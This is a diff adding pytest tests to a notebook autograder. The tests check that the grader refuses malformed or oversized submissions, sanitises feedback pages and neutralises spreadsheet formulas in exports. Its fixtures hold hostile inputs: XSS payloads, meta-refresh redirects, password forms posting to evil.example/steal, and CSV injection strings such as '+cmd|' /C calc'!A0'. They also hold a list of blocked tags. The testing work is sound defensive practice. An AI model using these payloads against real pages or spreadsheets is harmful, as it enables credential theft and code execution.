@@ -8,9 +8,11 @@ notebook, a zip bomb, 100,000 cells) are made at test time, cheaply (sparse file
 from __future__ import annotations
 
 import copy
+import csv
 import io
 import json
 import os
+import re
 import shutil
 import stat
 import zipfile
@@ -18,9 +20,10 @@ from pathlib import Path
 
 import pytest
 
-from autograder import collect, tamper
+from autograder import collect, export, feedback, tamper
 from autograder.course import Course, grade_id
 from autograder.problemsets import ProblemSet
+from autograder.records import CellRecord, StudentRecord
 
 HERE = Path(__file__).resolve().parent
 FIXTURE = HERE / "fixtures" / "course"
@@ -301,3 +304,253 @@ def test_invalid_utf8_names_unicode_spaces_and_case_duplicates(tmp_path, course,
     )
     assert "not a valid student id" in why["m\u0430x/ps0_fixture.ipynb"]
     assert all("\x1b" not in path + text for path, text in report.unmatched)
+
+
+# --- the coordinator's reading of a submission ------------------------------------------------------
+
+
+def hostile_notebooks(release_nb: dict) -> dict[str, bytes]:
+    """Submissions whose content is hostile to the grader itself (issue 17), by name."""
+    good = json.loads(honest(release_nb))
+
+    def with_(**changes) -> bytes:
+        nb = copy.deepcopy(good)
+        nb.update(changes)
+        return json.dumps(nb).encode()
+
+    bad_source = copy.deepcopy(good)
+    bad_source["cells"][0]["source"] = [1, 2]
+    deep = b'{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": '
+    deep += b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}"
+    bad_meta = copy.deepcopy(good)
+    bad_meta["cells"][0]["metadata"] = {"nbgrader": "x", "tags": [{"a": 1}], "deletable": "no"}
+    bad_gid = copy.deepcopy(good)
+    bad_gid["cells"][1]["metadata"]["nbgrader"] = {"grade_id": ["x"], "grade": True}
+    return {
+        "nbformat_minor_x": with_(nbformat_minor="x"),
+        "source_of_ints": json.dumps(bad_source).encode(),
+        "metadata_100000_deep": deep,
+        "cells_100000": with_(cells=[{"cell_type": "markdown", "source": "x", "metadata": {}}] * 100_000),
+        "invalid_utf8": honest(release_nb).replace(b"return 2 * x", b"return \xff\xfe * x"),
+        "nbformat_string": with_(nbformat="4"),
+        "cells_not_a_list": with_(cells={"a": 1}),
+        "metadata_wrong_types": json.dumps(bad_meta).encode(),
+        "grade_id_a_list": json.dumps(bad_gid).encode(),
+        "many_containers": b'{"cells": [], "nbformat": 4, "metadata": {"a": [' + b"[]," * 2_000_000 + b"1]}}",
+        "deeply_nested_code": honest(release_nb, "x = " + "-" * 100_000 + "1"),
+    }
+
+
+def test_prepare_refuses_or_repairs_anything_without_raising(release_nb):
+    """What the coordinator (`tamper.parse`) and each grading (`tamper.prepare`) do with hostile bytes:
+    an InvalidSubmission with a reason, or a repaired notebook; never another exception."""
+    outcome = {}
+    for name, raw in hostile_notebooks(release_nb).items():
+        try:
+            tamper.parse(raw)
+            prepared = tamper.prepare(raw, release_nb)
+            outcome[name] = ("graded", prepared)
+        except tamper.InvalidSubmission as exc:
+            assert str(exc)
+            outcome[name] = ("invalid", str(exc))
+    invalid = {k: v[1] for k, v in outcome.items() if v[0] == "invalid"}
+    assert "not text" in invalid["source_of_ints"]
+    assert "nested deeper than 64" in invalid["metadata_100000_deep"]
+    assert "100,000 cells" in invalid["cells_100000"]
+    assert "not UTF-8" in invalid["invalid_utf8"]
+    assert "more than the limit" in invalid["many_containers"]
+    assert {"nbformat_string", "cells_not_a_list"} <= set(invalid)
+    # content that is merely odd is graded: the structure repaired from the release
+    for name in ("nbformat_minor_x", "metadata_wrong_types", "grade_id_a_list", "deeply_nested_code"):
+        assert outcome[name][0] == "graded", name
+        assert [grade_id(c) for c in outcome[name][1].notebook.cells if grade_id(c)] == [
+            grade_id(c) for c in release_nb["cells"] if grade_id(c)
+        ]
+
+
+def test_a_500_mb_notebook_is_refused_before_it_is_read(tmp_path):
+    path = tmp_path / "ps0_fixture.ipynb"
+    with open(path, "wb") as fh:
+        fh.truncate(500 * 2**20)  # sparse
+    with pytest.raises(tamper.InvalidSubmission, match="more than the limit"):
+        tamper.read_submission(path)
+    with pytest.raises(tamper.InvalidSubmission, match="more than the limit"):
+        tamper.parse(b" " * (tamper.MAX_BYTES + 1))
+    link = tmp_path / "link.ipynb"
+    link.symlink_to(PS0_SOURCE)
+    with pytest.raises(tamper.InvalidSubmission, match="not a regular file"):
+        tamper.read_submission(link)
+
+
+# --- feedback -------------------------------------------------------------------------------------
+
+HOSTILE_MARKDOWN = """\
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+<style>#course-feedback-summary { display: none } body { color: #123456 }</style>
+<div id="course-feedback-summary" class="notes ok" style="position: fixed; top: 0; color: #654321">
+<h1>ps0_fixture — feedback for alice</h1><p><b>Score: 34 / 34</b></p></div>
+<form action="https://evil.example/steal" method="post"><input type="password" name="pw"></form>
+<a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt&colon;alert(2)">two</a>
+<a href="data:text/html,<script>alert(3)</script>">three</a>
+<img src="https://evil.example/pixel.png" onerror="alert(4)"> <iframe src="https://evil.example/"></iframe>
+<base href="https://evil.example/"> <object data="https://evil.example/x"></object>
+<svg><a href="javascript:alert(5)"><text>svg</text></a></svg>
+<math><mi>x</mi><mtext><style>p{}</style></mtext></math>
+A real table: <table><tr><td colspan="2">ok</td></tr></table> and maths $\\frac{a}{b}$.
+"""
+
+
+def hostile_graded_notebook(release_nb: dict) -> dict:
+    nb = json.loads(honest(release_nb))
+    nb["metadata"]["title"] = "</title><meta http-equiv=refresh content=0;url=https://evil.example/>"
+    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
+    nb["cells"].append(
+        {"cell_type": "markdown", "metadata": {"tags": ['x" onclick="alert(6)']}, "source": HOSTILE_MARKDOWN}
+    )
+    code = next(c for c in nb["cells"] if grade_id(c) == "solution_double")
+    code["outputs"] = [
+        {"output_type": "stream", "name": "stdout", "text": ["types and shapes OK\n", "second line\n"]},
+        {
+            "output_type": "display_data",
+            "metadata": {},
+            "data": {
+                "text/html": [
+                    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+                    '<form action="https://evil.example/"><input type="password"></form>',
+                ],
+                "application/javascript": "alert(7)",
+                "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
+                "text/plain": "<IPython.core.display.HTML object>",
+            },
+        },
+        {
+            "output_type": "display_data",
+            "metadata": {},
+            "data": {
+                "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(8)">'
+                '<text y="10">svg</text></a><foreignObject><form action="https://evil.example/"></form>'
+                "</foreignObject></svg>"
+            },
+        },
+        {
+            "output_type": "error",
+            "ename": "<b>Boom</b>",
+            "evalue": '=HYPERLINK("https://evil.example")',
+            "traceback": ["secret"],
+        },
+    ]
+    return nb
+
+
+def hostile_record(student: str = "alice") -> StudentRecord:
+    return StudentRecord(
+        student=student,
+        status="graded",
+        cells=[
+            CellRecord(
+                "test_double_values", "test", 2, 0.0, None, None, "<style>*{display:none}</style>=1+1"
+            ),
+            CellRecord("answer_why", "written", 1, None, None, None),
+        ],
+    )
+
+
+def assert_page_holds(page: str) -> None:
+    """What no feedback page may do: navigate, submit, run or fetch anything, or let student content
+    restyle or imitate the grader's summary."""
+    low = page.lower()
+    metas = re.findall(r"<meta\b[^>]*>", low)
+    assert [m for m in metas if "http-equiv" in m] == [m for m in metas if "content-security-policy" in m]
+    assert len([m for m in metas if "http-equiv" in m]) == 1
+    assert not re.search(r"<meta[^>]+refresh", low)
+    for tag in (
+        "<form",
+        "<input",
+        "<iframe",
+        "<object",
+        "<embed",
+        "<base",
+        "<script",
+        "<svg",
+        "<foreignobject",
+    ):
+        assert tag not in low, tag
+    assert not re.search(r"""(href|src|action|data)\s*=\s*["']?\s*(javascript|vbscript|data:text)""", low)
+    assert "onerror" not in low and "onclick" not in low
+    for directive in (
+        "default-src 'none'",
+        "form-action 'none'",
+        "base-uri 'none'",
+        "frame-ancestors 'none'",
+    ):
+        assert directive in page
+    # the student's style, classes and ids are gone; the summary comes first, outside the student area
+    assert "#123456" not in page and "#654321" not in page and "display: none }" not in page
+    assert page.count('id="course-feedback-summary"') == 1
+    summary_at, work_at = page.index('id="course-feedback-summary"'), page.index('id="course-student-work"')
+    assert summary_at < work_at
+    assert page.index("Score") > summary_at
+    assert all(page.index(x) > work_at for x in ("Score: 34 / 34",) if x in page)
+    assert 'class="notes ok"' not in page and "evil.example/pixel" not in page
+
+
+def test_feedback_page_of_a_hostile_notebook(release_nb):
+    renderer = feedback.Renderer()
+    ps = ProblemSet("ps0", "ps0_fixture", root=FIXTURE)
+    page = renderer.page(ps, hostile_record(), hostile_graded_notebook(release_nb))
+    assert_page_holds(page)
+    assert "types and shapes OK\nsecond line" in page and "[&#39;types" not in page and "['types" not in page
+    assert 'src="data:image/svg+xml;base64,' in page  # SVG only as an image (no links, no forms)
+    assert "<math" in page and "<table" in page and 'colspan="2"' in page  # maths and tables stay
+    assert "secret" not in page
+    # the message from the check is escaped text in the summary, not markup
+    assert "&lt;style&gt;*{display:none}&lt;/style&gt;=1+1" in page
+
+
+# --- export ---------------------------------------------------------------------------------------
+
+
+def test_export_neutralises_formulas_in_every_format(monkeypatch, course, ps0):
+    evil = [
+        '=HYPERLINK("https://evil.example","x")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+    ]
+    recs = [
+        StudentRecord(
+            student="alice",
+            status="graded",
+            timestamp=evil[5],
+            first_name=evil[1],
+            last_name=evil[0],
+            email=evil[3],
+            late_penalty=0.0,
+            cells=[
+                CellRecord("test_double_values", "test", 2, 0.0, None, None, message=evil[0]),
+                CellRecord("answer_why", "written", 1, -1.5, None, None, comment=evil[2]),
+            ],
+        ),
+        StudentRecord(student="bob", status="invalid", reason=evil[4]),
+    ]
+    monkeypatch.setattr(export, "records", lambda course, ps: recs)
+    monkeypatch.setattr(export, "_duedate", lambda course, ps: "")
+    for fmt in export.FORMATS:
+        table = export.rows(course, [ps0], fmt)
+        for row in table:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (fmt, cell)
+                if cell.startswith("-"):
+                    float(cell)  # a negative number the export computed, never text
+        flat = [c for row in table for c in row]
+        if fmt == "long":
+            assert "-1.5" in flat and "'-2+3" in flat and "'" + evil[0] in flat and "'" + evil[4] in flat
+        if fmt == "totals":
+            assert "'" + evil[1] in flat and "'" + evil[3] in flat and "'" + evil[5] in flat
+        if fmt == "canvas":
+            assert any(c.startswith("'=HYPERLINK") for c in flat)
+    _path, text = export.export(course, [ps0], "long", None)
+    rows = list(csv.reader(io.StringIO(text)))
+    assert all(not c.startswith(("=", "+", "@")) for row in rows for c in row)
